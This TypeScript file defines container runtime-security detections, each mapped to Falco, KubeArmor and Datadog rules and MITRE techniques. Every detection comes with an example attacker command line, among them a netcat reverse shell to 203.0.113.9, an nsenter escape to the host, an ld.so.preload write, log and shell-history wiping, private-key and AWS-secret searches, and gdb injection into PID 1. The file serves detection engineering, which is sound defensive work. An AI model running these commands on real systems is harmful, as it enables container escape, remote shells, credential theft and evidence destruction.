import type { DetectionDef } from "./model";

// Detections a fleet's rule sets add to the estate's (detections.ts). The stored event type comes
// from each format's rule name (Falco rule, KubeArmor policy, Datadog rule id, Garnet detection),
// so each entry adds up to four types. Falco names are its stock rules.

type FleetDetection = DetectionDef & { exe: string; argv: string[]; file?: { path: string; write: boolean } };

function def(d: Omit<FleetDetection, "description" | "tetragonPolicy" | "runtimeRuleset"> & { description?: string }): FleetDetection {
  return { description: d.description ?? d.title, tetragonPolicy: "fleet-observability", runtimeRuleset: "acme/fleet", ...d };
}

export const FLEET_DETECTIONS: FleetDetection[] = [
  def({
    name: "container_escape_nsenter", title: "Namespace escape with nsenter", severity: "critical", category: "privilege_escalation",
    mechanism: "execution", tactic: "privilege_escalation", technique: "escape_to_host", techniqueId: "T1611",
    datadogRule: "nsenter_host_namespace", falcoRule: "Change namespace privileges via unshare", falcoTags: ["container", "mitre_privilege_escalation", "T1611"],
    kubearmorPolicy: "ksp-block-nsenter", kubearmorMessage: "nsenter into the host namespaces", runtimeRule: "nsenter_exec",
    exe: "/usr/bin/nsenter", argv: ["nsenter", "-t", "1", "-m", "-u", "-i", "-n", "-p", "--", "/bin/bash"],
  }),
  def({
    name: "write_below_etc", title: "File below /etc opened for writing", severity: "medium", category: "persistence",
    mechanism: "file_access", tactic: "persistence", technique: "modify_system_process", techniqueId: "T1543",
    datadogRule: "etc_file_modified", falcoRule: "Write below etc", falcoTags: ["filesystem", "mitre_persistence", "T1098"],
    kubearmorPolicy: "ksp-audit-etc-write", kubearmorMessage: "Write below /etc", runtimeRule: "etc_write",
    exe: "/usr/bin/tee", argv: ["tee", "-a", "/etc/ld.so.preload"], file: { path: "/etc/ld.so.preload", write: true },
  }),
  def({
    name: "log_tampering", title: "Log files cleared", severity: "high", category: "defense_evasion",
    mechanism: "execution", tactic: "defense_evasion", technique: "indicator_removal", techniqueId: "T1070",
    datadogRule: "log_file_cleared", falcoRule: "Clear Log Activities", falcoTags: ["host", "container", "filesystem", "mitre_defense_evasion", "T1070"],
    kubearmorPolicy: "ksp-protect-logs", kubearmorMessage: "Log files truncated", runtimeRule: "log_clear",
    exe: "/usr/bin/truncate", argv: ["truncate", "-s", "0", "/var/log/auth.log"],
  }),
  def({
    name: "private_key_search", title: "Search for private keys or passwords", severity: "medium", category: "credential_access",
    mechanism: "execution", tactic: "credential_access", technique: "private_keys", techniqueId: "T1552.004",
    datadogRule: "credential_search", falcoRule: "Search Private Keys or Passwords", falcoTags: ["process", "mitre_credential_access", "T1552.001"],
    kubearmorPolicy: "ksp-audit-key-search", kubearmorMessage: "Private key search", runtimeRule: "key_search",
    exe: "/usr/bin/find", argv: ["find", "/", "-name", "id_rsa", "-o", "-name", "*.pem"],
  }),
  def({
    name: "netcat_remote_exec", title: "Netcat with remote code execution", severity: "critical", category: "execution",
    mechanism: "execution", tactic: "execution", technique: "command_and_scripting_interpreter", techniqueId: "T1059",
    datadogRule: "netcat_reverse_shell", falcoRule: "Netcat Remote Code Execution in Container", falcoTags: ["container", "network", "process", "mitre_execution", "T1059"],
    kubearmorPolicy: "ksp-block-netcat", kubearmorMessage: "netcat with -e", runtimeRule: "netcat_exec",
    exe: "/usr/bin/nc", argv: ["nc", "-e", "/bin/sh", "203.0.113.9", "4444"],
  }),
  def({
    name: "exec_from_dev_shm", title: "Execution from /dev/shm", severity: "high", category: "defense_evasion",
    mechanism: "execution", tactic: "defense_evasion", technique: "masquerading", techniqueId: "T1036",
    datadogRule: "dev_shm_execution", falcoRule: "Execution from /dev/shm", falcoTags: ["host", "container", "mitre_execution", "T1059.004"],
    kubearmorPolicy: "ksp-block-shm-exec", kubearmorMessage: "Execution from /dev/shm", runtimeRule: "shm_exec",
    exe: "/dev/shm/.x/kdevtmpfsi", argv: ["kdevtmpfsi"],
  }),
  def({
    name: "drop_and_execute", title: "Binary dropped and executed in a container", severity: "critical", category: "execution",
    mechanism: "execution", tactic: "execution", technique: "user_execution", techniqueId: "T1204",
    datadogRule: "new_binary_execution_in_container", falcoRule: "Drop and execute new binary in container", falcoTags: ["container", "process", "mitre_persistence", "TA0003"],
    kubearmorPolicy: "ksp-block-tmp-exec", kubearmorMessage: "Execution of a dropped binary", runtimeRule: "dropped_binary",
    exe: "/tmp/.cache/kinsing", argv: ["/tmp/.cache/kinsing"],
  }),
  def({
    name: "aws_credentials_search", title: "Search for AWS credentials", severity: "medium", category: "credential_access",
    mechanism: "execution", tactic: "credential_access", technique: "unsecured_credentials", techniqueId: "T1552",
    datadogRule: "aws_credentials_search", falcoRule: "Find AWS Credentials", falcoTags: ["process", "aws", "mitre_credential_access", "T1552"],
    kubearmorPolicy: "ksp-audit-cloud-creds", kubearmorMessage: "Search for cloud credentials", runtimeRule: "aws_creds_search",
    exe: "/bin/grep", argv: ["grep", "-r", "aws_secret_access_key", "/home"],
  }),
  def({
    name: "shell_history_deletion", title: "Shell history deleted", severity: "medium", category: "defense_evasion",
    mechanism: "execution", tactic: "defense_evasion", technique: "clear_command_history", techniqueId: "T1070.003",
    datadogRule: "shell_history_deleted", falcoRule: "Delete or rename shell history", falcoTags: ["host", "container", "process", "filesystem", "mitre_defense_evasion", "T1070"],
    kubearmorPolicy: "ksp-protect-shell-history", kubearmorMessage: "Shell history removed", runtimeRule: "history_delete",
    exe: "/bin/rm", argv: ["rm", "-f", "/root/.bash_history"],
  }),
  def({
    name: "ptrace_attach", title: "Debugger attached to a process", severity: "high", category: "privilege_escalation",
    mechanism: "execution", tactic: "privilege_escalation", technique: "process_injection", techniqueId: "T1055.008",
    datadogRule: "ptrace_antidebug", falcoRule: "PTRACE attached to process", falcoTags: ["host", "container", "process", "mitre_privilege_escalation", "T1055.008"],
    kubearmorPolicy: "ksp-block-ptrace", kubearmorMessage: "ptrace attach", runtimeRule: "ptrace_attach",
    exe: "/usr/bin/gdb", argv: ["gdb", "-p", "1", "-batch", "-ex", "call (int)system(\"id\")"],
  }),
  def({
    name: "cron_job_scheduled", title: "Cron job scheduled", severity: "low", category: "persistence",
    mechanism: "execution", tactic: "persistence", technique: "scheduled_task", techniqueId: "T1053.003",
    datadogRule: "cron_at_job_creation", falcoRule: "Schedule Cron Jobs", falcoTags: ["host", "container", "filesystem", "mitre_execution", "T1053.003"],
    kubearmorPolicy: "ksp-audit-crontab", kubearmorMessage: "Crontab modified", runtimeRule: "crontab_edit",
    exe: "/usr/bin/crontab", argv: ["crontab", "-l"],
  }),
  def({
    name: "network_tool_in_container", title: "Suspicious network tool in a container", severity: "medium", category: "discovery",
    mechanism: "execution", tactic: "discovery", technique: "network_service_discovery", techniqueId: "T1046",
    datadogRule: "network_scanner_execution", falcoRule: "Launch Suspicious Network Tool in Container", falcoTags: ["container", "network", "process", "mitre_discovery", "T1046"],
    kubearmorPolicy: "ksp-audit-network-tools", kubearmorMessage: "Network scanner executed", runtimeRule: "scanner_exec",
    exe: "/usr/bin/nmap", argv: ["nmap", "-sS", "-p", "1-1024", "10.96.0.0/16"],
  }),
];
